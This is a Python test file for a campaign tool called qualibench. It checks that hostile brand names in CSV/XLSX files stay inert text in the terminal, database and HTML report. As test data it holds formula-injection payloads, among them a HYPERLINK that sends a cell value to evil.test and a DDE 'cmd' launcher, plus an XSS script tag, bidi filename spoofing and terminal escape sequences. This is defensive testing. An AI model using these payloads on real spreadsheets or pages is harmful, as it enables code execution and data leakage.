"""Hostile cells in brands.csv / brands.xlsx (issue #13): what a careless or malicious editor
of the brands file types reaches the database, the terminal, the report and the exports.

Control characters are refused by `qualibench check` (one line naming file, row and column)
before anything is stored; markup, formulas, HTML and bidi overrides are legal names, so they
go through the whole campaign (plan, assist, import, score, awards, status, explain, report)
run by the installed console script, and come out as text everywhere.
"""

from __future__ import annotations

import csv
import re
from datetime import UTC, date, datetime, timedelta
from pathlib import Path

import openpyxl
from sqlmodel import select

from qualibench.campaign.init import init_campaign
from qualibench.models import Brand, Probe
from qualibench.workspace import Workspace
from tests.hostile.conftest import run_qualibench

HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.test/?"&A1,"clic") [/] [link=http://evil.test]lien[/link]',
    "+cmd|' /C calc'!A0 \u202eexe.fdp",
    "@SUM(1+1) <script>alert(1)</script>",
    "-2+3 :warning: [bold red]Rouge[/]",
]
ANSWER = ("Bonjour, nous sommes désolés pour ce souci. Nous avons vérifié votre commande : un "
          "échange est possible en magasin ou par retour gratuit. Bien cordialement, Julie")
# What a terminal acts on: an OSC 8 hyperlink, a window title, a bidi override, a bell.
TERMINAL_ACTIONS = ("\x1b]8;", "\x1b]0;", "\u202e", "\x07")


def _campaign(tmp_path: Path) -> Path:
    folder = tmp_path / "campaign"
    init_campaign(folder, brands=5, channels=("facebook",), force=True,
                  start=date.today() - timedelta(days=12))
    return folder


def _rewrite_brands(folder: Path, edit) -> None:  # type: ignore[no-untyped-def]
    path = folder / "brands.csv"
    rows = list(csv.reader(path.open(encoding="utf-8", newline="")))
    edit(rows)
    with path.open("w", encoding="utf-8", newline="") as fh:
        csv.writer(fh).writerows(rows)


def _qb(folder: Path, db_url: str, *args: str):  # type: ignore[no-untyped-def]
    # FORCE_COLOR: rich writes as to a real terminal, so a parsed [link] would be an OSC 8 link.
    run = run_qualibench("--db", db_url, *args, cwd=folder, timeout=180,
                         env={"FORCE_COLOR": "1", "COLUMNS": "200"})
    assert not run.killed
    assert "Traceback" not in run.stderr, run.stderr
    return run


def test_control_characters_in_brand_cells_are_refused_before_anything_is_stored(tmp_path, db_url):
    folder = _campaign(tmp_path)

    def edit(rows):  # type: ignore[no-untyped-def]
        rows[1][0] = "Nul\x00Marque"  # PostgreSQL refuses NUL: plan used to fail on it
        rows[2][1] = "retail\x1b[2J"  # clear screen in the sector column
        rows[3][8] = "https://facebook.example/\x1b]0;pwned\x07"

    _rewrite_brands(folder, edit)
    check = _qb(folder, db_url, "check")
    assert check.returncode == 3, check.stderr
    lines = check.stderr.splitlines()
    for row, column, code in ((2, "name", "0000"), (3, "sector", "001B"),
                              (4, "facebook_page", "001B")):
        assert any("brands.csv" in line and f"row {row}, {column}: contains the control "
                   f"character U+{code}" in line for line in lines), (row, check.stderr)
    assert not any(a in check.stdout + check.stderr for a in ("\x1b[2J", "\x1b]0;", "\x00"))
    plan = _qb(folder, db_url, "plan")
    assert plan.returncode == 3 and "problems in the campaign files" in plan.stderr
    with Workspace.open(folder, db_url).session() as s:
        assert s.exec(select(Brand)).all() == []


def test_a_formula_cell_of_brands_xlsx_is_read_as_its_value_never_as_a_formula(tmp_path, db_url):
    # XML cannot hold control characters: in XLSX they arrive as _x001B_ escapes, which stay text.
    folder = _campaign(tmp_path)
    rows = list(csv.reader((folder / "brands.csv").open(encoding="utf-8", newline="")))
    wb = openpyxl.Workbook()
    for row in rows:
        wb.active.append(row)
    wb.active["A2"] = '=HYPERLINK("http://evil.test","clic")'  # no cached value: no name
    wb.active["B3"] = "retail_x001B_[2J"
    wb.save(folder / "brands.xlsx")
    (folder / "brands.csv").unlink()
    toml = (folder / "campaign.toml").read_text(encoding="utf-8")
    (folder / "campaign.toml").write_text(toml.replace("brands.csv", "brands.xlsx"), encoding="utf-8")
    check = _qb(folder, db_url, "check")
    assert check.returncode == 3
    assert "brands.xlsx, row 2, name: the brand has no name" in check.stderr
    assert "HYPERLINK" not in check.stdout + check.stderr


def _import_file(folder: Path, db_url: str) -> Path:
    """A team's assisted sendings and replies for every probe, as `assist import` reads them."""
    with Workspace.open(folder, db_url).session() as s:
        probes = list(s.exec(select(Probe).order_by(Probe.id)))
    path = folder / "assisted.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        out = csv.writer(fh)
        out.writerow(["probe", "event", "at", "text"])
        for i, p in enumerate(probes):
            sent = p.planned_at if p.planned_at.tzinfo else p.planned_at.replace(tzinfo=UTC)
            sent = min(sent, datetime.now(UTC) - timedelta(days=1))
            out.writerow([p.id, "sent", sent.isoformat(), ""])
            out.writerow([p.id, "reply", (sent + timedelta(hours=2 + i % 5)).isoformat(), ANSWER])
    return path


def test_markup_formulas_html_and_bidi_in_brand_names_stay_text_through_the_campaign(
        tmp_path, db_url):
    folder = _campaign(tmp_path)

    def edit(rows):  # type: ignore[no-untyped-def]
        for i, name in enumerate(HOSTILE_NAMES, start=1):
            rows[i][0] = name
        rows[2][8] = "https://facebook.example/[/][link=http://evil.test]page[/link]"

    _rewrite_brands(folder, edit)
    assert _qb(folder, db_url, "check").returncode == 0
    assert _qb(folder, db_url, "plan").returncode == 0
    printed: dict[str, str] = {}
    nxt = _qb(folder, db_url, "assist", "next", "--limit", "20")
    assert nxt.returncode == 0
    printed["assist next"] = nxt.stdout
    imported = _qb(folder, db_url, "assist", "import", str(_import_file(folder, db_url)))
    assert imported.returncode == 0, imported.stderr
    assert _qb(folder, db_url, "score").returncode == 0
    for args in (("awards",), ("status", "--brands"), ("score", "explain", "1")):
        run = _qb(folder, db_url, *args)
        assert run.returncode == 0, (args, run.stderr)
        printed[" ".join(args)] = run.stdout + run.stderr
    for command, out in printed.items():
        for action in TERMINAL_ACTIONS:
            assert action not in out, (command, action)
    plain = {k: re.sub(r"\x1b\[[0-9;]*m", "", v) for k, v in printed.items()}
    # the mission sheet names the brand and where to write exactly as the file has them
    flat = re.sub(r"\s+", "", plain["assist next"])
    assert re.sub(r"\s+", "", "[link=http://evil.test]page[/link]") in flat
    assert re.sub(r"\s+", "", "[bold red]Rouge[/]") in re.sub(r"\s+", "", plain["status --brands"])

    report = _qb(folder, db_url, "report", "--format", "html", "--out", str(tmp_path / "out"))
    assert report.returncode == 0, report.stderr
    [html_path] = (tmp_path / "out").glob("*.html")
    html = html_path.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert not [a for a in re.findall(r'(?:href|src)\s*=\s*"([^"]*)"', html) if "evil.test" in a]
